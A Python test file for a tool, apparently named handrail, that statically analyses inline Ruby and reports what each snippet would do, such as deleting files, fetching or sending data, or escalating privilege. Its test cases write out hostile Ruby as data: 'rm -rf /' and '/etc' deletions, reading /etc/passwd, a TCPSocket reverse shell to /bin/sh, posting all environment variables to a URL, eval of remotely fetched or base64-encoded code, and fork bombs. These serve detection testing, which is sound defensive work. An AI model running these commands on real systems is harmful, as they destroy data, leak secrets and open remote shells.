"""Ruby is followed far enough to say what it does, and no further."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.model.effect import Kind
from handrail.model.ordinal import Severity
from handrail.shell.inline.ruby import read


def effects(code: str) -> list[tuple[Kind, str]]:
    return [(effect.kind, effect.target) for effect in read(code).effects]


@pytest.mark.parametrize(
    ("code", "scripts"),
    [
        ("`rm -rf /etc`", ("rm -rf /etc",)),
        ('system "rm x"', ("rm x",)),
        ('d = "/etc"; system "rm -rf #{d}"; %x{ls #{d}}', ("rm -rf /etc", "ls /etc")),
        ('Kernel.send(:system, "id"); send("sys"+"tem", "ls")', ("id", "ls")),
        ('IO.popen("ls"); Open3.capture2("id"); open("|rm x")', ("ls", "id", "rm x")),
        ("cmd = <<~EOS\n  rm x\nEOS\nsystem(cmd)", ("  rm x\n",)),
        ("rm -rf /", ("rm -rf /",)),
        ("eval(\"system('id')\")", ("id",)),
        ('%w[a b].each { |d| system("rm #{d}") }', ("rm a", "rm b")),
    ],
)
def test_command_lines_that_go_to_a_shell_are_found(code: str, scripts: tuple[str, ...]) -> None:
    assert read(code).scripts == scripts


@pytest.mark.parametrize(
    ("code", "argv"),
    [
        ('system("rm","-rf","/etc")', ("rm", "-rf", "/etc")),
        ('exec "rm", "x"', ("rm", "x")),
    ],
)
def test_a_program_that_is_started_without_a_shell_is_found(
    code: str, argv: tuple[str, ...]
) -> None:
    assert read(code).calls == (argv,)


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ('File.delete("a", "b")', Kind.DELETE, "b"),
        ('FileUtils.rm_rf("/etc")', Kind.DELETE, "/etc"),
        ("FileUtils.rm_rf %w[/a /b]", Kind.DELETE, "/b"),
        ('Dir.glob("/e/*").each { |f| File.delete(f) }', Kind.DELETE, "/e/*"),
        ('Dir["/e/*"].each do |f|\n  File.delete f\nend', Kind.DELETE, "/e/*"),
        ('File.delete(File.join(Dir.home, "x"))', Kind.DELETE, "~/x"),
        ('Pathname.new("a").delete()', Kind.DELETE, "a"),
        ('File.write("a", "x")', Kind.WRITE, "a"),
        ('File.open("a", "w") { |f| f.write("x") }', Kind.WRITE, "a"),
        ('File.read("/etc/passwd")', Kind.READ, "/etc/passwd"),
        ('File.chmod(0777, "a")', Kind.PERMIT, "a"),
        ('require "net/http"; Net::HTTP.get(URI("http://a"))', Kind.FETCH, "http://a"),
        ('Net::HTTP.post(URI("http://a"), x)', Kind.SEND, "http://a"),
        ('s = TCPSocket.new("a", 80); s.puts x', Kind.SEND, "a:80"),
        ("Process.kill(9, -1)", Kind.KILL, "every process"),
        ('Process::Sys.setuid(0); exec "/bin/sh"', Kind.PRIVILEGE, "Process.Sys.setuid(0)"),
        ('ActiveRecord::Base.connection.execute("DROP TABLE t")', Kind.DESTROY, "DROP TABLE t"),
    ],
)
def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
    assert (kind, target) in effects(code)


@pytest.mark.parametrize(
    "code",
    [
        "require 'open-uri'; eval(URI.open('http://a/x.rb').read)",
        'eval(Base64.decode64("cA=="))',
        'system(["726d"].pack("H*"))',
        'eval "cA==".unpack1("m")',
    ],
)
def test_what_nobody_can_see_before_it_runs_is_unseen(code: str) -> None:
    assert Kind.UNSEEN in {effect.kind for effect in read(code).effects}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("fork while true", Kind.EXHAUST),
        ("loop { fork }", Kind.EXHAUST),
        (
            'f=TCPSocket.open("a",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
            Kind.UNSEEN,
        ),
        ('Net::HTTP.post_form(URI("http://a"), ENV.to_h)', Kind.SEND),
    ],
)
def test_the_worst_is_critical(code: str, kind: Kind) -> None:
    assert (kind, Severity.CRITICAL) in {(e.kind, e.severity) for e in read(code).effects}


@pytest.mark.parametrize(
    "code",
    [
        'puts "DROP TABLE users"',
        '# system("rm -rf /")',
        "puts 'system(\"x\")'",
        "puts [1,2,3].map { |x| x * 2 }.sum",
        'require "json"; puts JSON.parse(File.read("a.json"))["v"]',
        'puts ENV["HOME"]; puts RUBY_VERSION',
        'puts "a #{1 + 1}" if /system "x"/ =~ s',
    ],
)
def test_ordinary_code_and_words_in_texts_and_comments_do_nothing(code: str) -> None:
    result = read(code)
    assert {effect.kind for effect in result.effects} <= {Kind.READ, Kind.WRITE, Kind.RUN}
    assert not result.scripts
    assert not result.calls


@given(st.text())
def test_no_text_makes_it_raise(text: str) -> None:
    read(text)


@pytest.mark.parametrize(
    "piece", [*"([{'\"`/\\-#<$%@;|&=.", "${", "#{", "--[[", "/*", "<<A\n", "s/[", "a.b("]
)
def test_deep_or_endless_code_is_read_in_time(piece: str) -> None:
    read("system eval os open require(" + piece * 20_000)
